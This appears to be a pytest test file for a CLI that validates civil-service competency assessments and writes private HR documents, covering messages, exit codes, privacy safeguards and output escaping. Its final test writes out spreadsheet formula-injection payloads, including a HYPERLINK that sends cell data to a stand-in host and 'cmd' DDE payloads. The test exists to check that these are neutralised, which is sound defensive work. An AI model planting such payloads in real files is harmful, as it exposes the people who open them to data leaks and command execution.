"""``kompiler people``: each command over a small assessment of the shipped standards, its exit codes,
its messages, and that nothing is written unless everything is right."""

from __future__ import annotations

import csv
import re
import shutil
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from kompiler.build.output import MARKER, OutputWriter

REPO = Path(__file__).parents[2]
# Units: "Badan Kepegawaian Daerah" six people, "Badan Pengelolaan Keuangan dan Aset Daerah" five,
# "Biro Umum Sekretariat Daerah" two.
BKD, BPKAD, TU = "NTB.ADM.BKD.MUTASI", "NTB.ADM.BPKAD.ANGGARAN", "NTB.ADM.BIROUMUM.TU"
LEVELS = {"M.01": 2, "M.02": 3, "M.03": 3, "M.04": 2, "M.05": 3, "M.06": 3, "M.07": 3, "M.08": 3, "SK.01": 3}


def write_assessment(path: Path, rows: list[tuple[str, str, dict[str, object]]]) -> Path:
    codes = sorted({code for *_, levels in rows for code in levels})
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "jabatan", "tanggal", *codes])
        for person, position, levels in rows:
            writer.writerow([person, position, "2026-03-02", *(levels.get(code, "") for code in codes)])
    return path


@pytest.fixture
def project(tmp_path: Path) -> Path:
    target = tmp_path / "standar"
    shutil.copytree(REPO / "standards", target, ignore=shutil.ignore_patterns(".kompiler-cache"))
    return target


@pytest.fixture
def assessment(tmp_path: Path) -> Path:
    rows = [(f"P-{i:03d}", BKD, {**LEVELS, "M.01": 1 + i % 3}) for i in range(6)]
    rows += [(f"R-{i:03d}", BPKAD, LEVELS) for i in range(5)]
    rows += [(f"Q-{i:03d}", TU, LEVELS) for i in range(2)]
    return write_assessment(tmp_path / "asesmen.csv", rows)


def _files(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())


def test_check_says_the_file_is_clean(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    result = run_cli(["people", "check", str(assessment)], project)
    assert result.exit_code == 0, result.output
    assert "13 pegawai, tanpa galat" in result.output
    assert not (project / "asesmen").exists()


def test_errors_are_located_never_quoted_and_nothing_is_written(
    project: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    bad = write_assessment(
        tmp_path / "salah.csv", [("P-001", BKD, {**LEVELS, "M.01": 7}), ("P-002", "NTB.TIDAK.ADA", LEVELS)]
    )
    for command in ("check", "gaps"):
        result = run_cli(["people", command, str(bad)], project)
        assert result.exit_code == 1, result.output
        assert "salah.csv:2:" in result.output and "salah.csv:3:" in result.output
        assert "P-001," not in result.output  # the row itself (personal data) is never printed
    assert "Tidak ada keluaran" in result.output
    assert not (project / "asesmen").exists()


def test_check_sums_up_the_assessment_file_and_never_speaks_of_output(
    project: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    """``people check`` only validates: its last line counts the file's problems, the rows they are on
    and the people read, not the standards' files, and says nothing about output not written."""
    rows = [("P-001", BKD, {**LEVELS, "M.01": 7}), ("P-002", "NTB.TIDAK.ADA", LEVELS), ("P-003", BKD, LEVELS)]
    bad = write_assessment(tmp_path / "salah.csv", rows)
    result = run_cli(["people", "check", str(bad)], project)
    assert result.exit_code == 1, result.output
    last = result.output.strip().splitlines()[-1]
    assert last.endswith("salah.csv: 2 galat, 0 peringatan pada 2 baris; 1 pegawai terbaca tanpa galat."), (
        last
    )
    assert "keluaran" not in result.output and "berkas." not in result.output
    english = run_cli(["people", "check", str(bad), "--locale", "en"], project)
    assert (
        english.output.strip()
        .splitlines()[-1]
        .endswith("salah.csv: 2 error(s), 0 warning(s) on 2 row(s); 1 employee(s) read without errors.")
    )
    assert "output" not in english.output.lower()


def test_check_with_broken_standards_says_the_file_was_not_checked(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    position = project / "jabatan" / "ntb-adm-bkd-mutasi.yaml"
    text = position.read_text(encoding="utf-8")
    position.write_text(re.sub(r"level: \d", "level: 9", text, count=1), encoding="utf-8")
    result = run_cli(["people", "check", str(assessment)], project)
    assert result.exit_code == 1, result.output
    last = result.output.strip().splitlines()[-1]
    assert last.startswith("Standar memuat 1 galat") and last.endswith("asesmen.csv belum diperiksa."), last
    assert "keluaran" not in result.output


def test_the_steps_count_the_standards_and_the_assessment_file_apart(
    project: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    """The count line of gaps, plan and moves names both kinds of file its findings come from: the
    standards' files, as many as ``kompiler check`` counts, and the one assessment file, which is not
    read while the standards have an error."""
    checked = run_cli(["check", "."], project)
    found = re.search(r"dalam (\d+) berkas\.$", checked.stdout.strip())
    assert checked.exit_code == 0 and found, checked.output
    standards = found.group(1)
    bad = write_assessment(
        tmp_path / "salah.csv", [("P-001", BKD, {**LEVELS, "M.01": 7}), ("P-002", "NTB.TIDAK.ADA", LEVELS)]
    )
    gaps = run_cli(["people", "gaps", str(bad)], project)
    assert gaps.exit_code == 1, gaps.output
    assert (
        gaps.stdout.splitlines()[-1]
        == f"2 galat, 0 peringatan dalam {standards} berkas standar dan 1 berkas asesmen."
    )
    moves = run_cli(["people", "moves", str(bad), "--locale", "en"], project)
    assert moves.exit_code == 1, moves.output
    assert moves.stdout.splitlines()[-1] == (
        f"2 error(s), 0 warning(s) in {standards} standards file(s) and 1 assessment file."
    )
    position = project / "jabatan" / "ntb-adm-bkd-mutasi.yaml"
    text = position.read_text(encoding="utf-8")
    position.write_text(re.sub(r"level: \d", "level: 9", text, count=1), encoding="utf-8")
    plan = run_cli(["people", "plan", str(bad)], project)
    assert plan.exit_code == 1, plan.output
    assert plan.stdout.splitlines()[-1] == (
        f"1 galat, 0 peringatan dalam {standards} berkas standar; berkas asesmen belum diperiksa."
    )


def test_the_three_steps_share_the_private_folder(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    for step in ("gaps", "plan", "moves"):
        result = run_cli(
            ["people", step, str(assessment), "--format", "md,csv", "--tujuan", "pengisian"], project
        )
        assert result.exit_code == 0, result.output
        assert "RAHASIA" in result.output
    folder = project / "asesmen" / "hasil"
    files = _files(folder)
    for section in ("kesenjangan", "rencana", "mutasi"):
        assert f"{section}.csv" in files and f"{section}/P-000.md" in files and f"{section}/Q-001.md" in files
    assert "ringkasan.csv" in files and MARKER in files
    summary = list(csv.DictReader((folder / "ringkasan.csv").open(encoding="utf-8")))
    assert {row["tujuan"] for row in summary} == {"pengisian"}  # --tujuan, for everyone
    assert {stat.S_IMODE(p.stat().st_mode) for p in folder.rglob("*") if p.is_file()} == {0o600}
    gaps = (folder / "kesenjangan" / "P-000.md").read_text(encoding="utf-8")
    assert "Kepala Bidang Mutasi dan Promosi" in gaps and "Pasal 10" in gaps and "RAHASIA" in gaps


def test_english_documents(
    project: Path, assessment: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    result = run_cli(
        ["people", "plan", str(assessment), "--lang", "en", "-o", str(tmp_path / "hasil")], project
    )
    assert result.exit_code == 0, result.output
    assert "written to" in result.output
    text = (tmp_path / "hasil" / "rencana" / "P-001.md").read_text(encoding="utf-8")
    assert "COMPETENCY DEVELOPMENT PLAN" in text and "Article 10" in text and "Total JP" in text


@pytest.mark.parametrize("option", ["--locale", "--lang"])
def test_locale_is_named_as_for_every_other_command(
    project: Path, assessment: Path, tmp_path: Path, run_cli: Callable[..., Result], option: str
) -> None:
    """``--locale`` as for check and build; ``--lang``, the name before, still works, hidden from help."""
    result = run_cli(
        ["people", "gaps", option, "en", str(assessment), "-o", str(tmp_path / "hasil")], project
    )
    assert result.exit_code == 0, result.output
    assert "written to" in result.output
    help_text = run_cli(["people", "gaps", "--help"], project).output
    assert "--locale" in help_text and "--lang" not in help_text


def test_a_public_output_folder_is_refused(
    project: Path, assessment: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    public = tmp_path / "output"
    writer = OutputWriter(public)
    writer.write_text("site/index.html", "<p>")
    writer.commit()
    result = run_cli(["people", "gaps", str(assessment), "-o", str(public / "pribadi")], project)
    assert result.exit_code == 2
    # Said in both languages when none is chosen, as every refusal of the command line; else in that one.
    assert "folder keluaran publik" in result.output and "a public output folder" in result.output
    assert _files(public) == [MARKER, "site/index.html"]
    english = run_cli(["people", "gaps", str(assessment), "-o", str(public / "p"), "--locale", "en"], project)
    assert english.exit_code == 2
    assert "a public output folder" in english.output and "folder keluaran publik" not in english.output


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["--format", "md,xlsx"], "xlsx"),
        (["--tujuan", "promosi"], "promosi"),
    ],
)
def test_wrong_options_exit_2(
    project: Path, assessment: Path, run_cli: Callable[..., Result], arguments: list[str], said: str
) -> None:
    result = run_cli(["people", "gaps", str(assessment), *arguments], project)
    assert result.exit_code == 2
    assert said in result.output
    assert not (project / "asesmen").exists()


def test_pool_ranks_people_for_a_position(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    result = run_cli(["people", "pool", "NTB.JF.ASDMA.MUDA", str(assessment)], project)
    assert result.exit_code == 0, result.output
    folder = project / "asesmen" / "hasil" / "talenta"
    rows = list(csv.DictReader((folder / "NTB.JF.ASDMA.MUDA.csv").open(encoding="utf-8")))
    readiness = [float(row["kesiapan"]) for row in rows]
    assert len(rows) == 13 and readiness == sorted(readiness, reverse=True)
    assert "Pasal 10" in (folder / "NTB.JF.ASDMA.MUDA.md").read_text(encoding="utf-8")
    unknown = run_cli(["people", "pool", "NTB.TIDAK.ADA", str(assessment)], project)
    assert unknown.exit_code == 2 and "NTB.TIDAK.ADA" in unknown.output
    word = run_cli(["people", "pool", "NTB.JF.ASDMA.MUDA", str(assessment), "--format", "docx"], project)
    assert word.exit_code == 2 and "choose from md, csv." in word.output


def test_summary_suppresses_small_units(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    result = run_cli(["people", "summary", str(assessment), "--format", "md,pdf,csv"], project)
    assert result.exit_code == 0, result.output
    folder = project / "asesmen" / "hasil" / "agregat"
    assert _files(folder) == ["peta.csv", "peta.html", "peta.md", "peta.pdf"]
    assert (folder / "peta.pdf").read_bytes().startswith(b"%PDF-")
    text = (folder / "peta.md").read_text(encoding="utf-8")
    assert "Badan Kepegawaian Daerah | 6 |" in text
    # Two people: left out, name and all; with them the smallest unit shown (five) on the units' line,
    # else the agency's total less the units shown would give the two away. Those five have the same
    # levels, so each of their figures would tell every one's gap: the unit is left out too.
    assert "Biro Umum" not in text
    assert "Badan Pengelolaan Keuangan dan Aset Daerah" not in text
    assert "P-00" not in text and "Q-00" not in text
    smaller = run_cli(["people", "summary", str(assessment), "--minimal-kelompok", "2"], project)
    assert smaller.exit_code == 0
    assert "Biro Umum Sekretariat Daerah | 2 |" in (folder / "peta.md").read_text(encoding="utf-8")


def test_an_nip_is_refused_unless_personal_data_is_allowed(
    project: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    nip = "198703152010011002"
    named = write_assessment(tmp_path / "nip.csv", [(nip, BKD, LEVELS)])
    refused = run_cli(["people", "gaps", str(named)], project)
    assert refused.exit_code == 1 and "nip.csv:2:1" in refused.output
    assert nip not in refused.output  # the message names what it found, never the value
    allowed = run_cli(["people", "gaps", str(named), "--izinkan-data-pribadi"], project)
    assert allowed.exit_code == 0, allowed.output
    assert (project / "asesmen" / "hasil" / "kesenjangan" / f"{nip}.md").exists()


def test_an_xlsx_worksheet_is_chosen_by_name(project: Path, run_cli: Callable[..., Result]) -> None:
    workbook = REPO / "contoh" / "asesmen-contoh.xlsx"
    assert run_cli(["people", "check", str(workbook), "--lembar", "Asesmen"], project).exit_code == 0
    missing = run_cli(["people", "check", str(workbook), "--lembar", "Tidak"], project)
    assert missing.exit_code == 1 and "'Tidak'" in missing.output


def test_a_project_without_a_policy_says_which_section_is_missing(
    minimal_project: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    file = write_assessment(tmp_path / "a.csv", [("P-001", "NTB.JF.AKPD.MUDA", {"T.KEU.01": 2})])
    assert run_cli(["people", "check", str(file)], minimal_project).exit_code == 0
    result = run_cli(["people", "gaps", str(file)], minimal_project)
    assert result.exit_code == 2
    assert "kecocokan" in result.output and "pengembangan/" in result.output
    assert not (minimal_project / "asesmen").exists()


def test_a_project_overrides_the_document_template(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    (project / "templates" / "people").mkdir(parents=True)
    (project / "templates" / "people" / "dokumen.md").write_text(
        "{{ t.rahasia }} — format instansi: {{ p.person }} {{ p.percentage }} %\n", encoding="utf-8"
    )
    result = run_cli(["people", "gaps", str(assessment)], project)
    assert result.exit_code == 0, result.output
    text = (project / "asesmen" / "hasil" / "kesenjangan" / "P-000.md").read_text(encoding="utf-8")
    assert text.startswith("RAHASIA — data pribadi — format instansi: P-000 ")
    (project / "templates" / "people" / "dokumen.md").write_text("{{ p.__class__ }}\n", encoding="utf-8")
    refused = run_cli(["people", "gaps", str(assessment)], project)
    assert (
        refused.exit_code == 2 and "KMP050" in refused.output
    )  # the sandbox, as for the standards' templates


def test_source_date_epoch_dates_the_people_documents(
    project: Path, assessment: Path, run_cli: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The people documents are dated by the build's rule (``build_moment``): ``SOURCE_DATE_EPOCH``."""
    (project / "templates" / "people").mkdir(parents=True)
    (project / "templates" / "people" / "dokumen.md").write_text(
        "{{ p.person }} {{ s.built }}\n", encoding="utf-8"
    )
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01T00:00:00Z
    result = run_cli(["people", "gaps", str(assessment), "--format", "md"], project)
    assert result.exit_code == 0, result.output
    text = (project / "asesmen" / "hasil" / "kesenjangan" / "P-000.md").read_text(encoding="utf-8")
    assert text == "P-000 2026-01-01\n"


FORMULAS = {
    "unit_kerja: Badan Kepegawaian Daerah": 'unit_kerja: \'=HYPERLINK("http://contoh.invalid/?"&A1,"klik")\'',
    "    nama: Integritas\n": "    nama: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
    "    nama: E-learning Integritas\n": "    nama: '+cmd|'' /C calc''!A0'\n",
    "          nama: Memenuhi Syarat\n": "          nama: '-2+3'\n",
}


def test_text_from_the_standards_never_runs_as_a_spreadsheet_formula(
    project: Path, assessment: Path, run_cli: Callable[..., Result]
) -> None:
    """The HR office opens these tables in a spreadsheet; a unit, competency, activity or category name
    that an unreviewed pull request made start like a formula is written as text (a leading apostrophe,
    as OWASP recommends), in every table of every step."""
    for path in project.rglob("*.yaml"):
        text = path.read_text(encoding="utf-8")
        changed = text
        for plain, formula in FORMULAS.items():
            changed = changed.replace(plain, formula)
        if changed != text:
            path.write_text(changed, encoding="utf-8")
    assert run_cli(["check", str(project)], project).exit_code == 0
    for step in (["gaps"], ["plan"], ["moves"], ["summary"], ["pool", "NTB.JF.ASDMA.MUDA"]):
        result = run_cli(["people", *step, str(assessment), "--format", "csv"], project)
        assert result.exit_code == 0, result.output
    cells = [
        cell
        for table in sorted((project / "asesmen" / "hasil").rglob("*.csv"))
        for row in csv.reader(table.open(encoding="utf-8"))
        for cell in row
    ]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for shown in (
        '\'=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+cmd|' /C calc'!A0",
        "'-2+3",
    ):
        assert shown in cells, shown
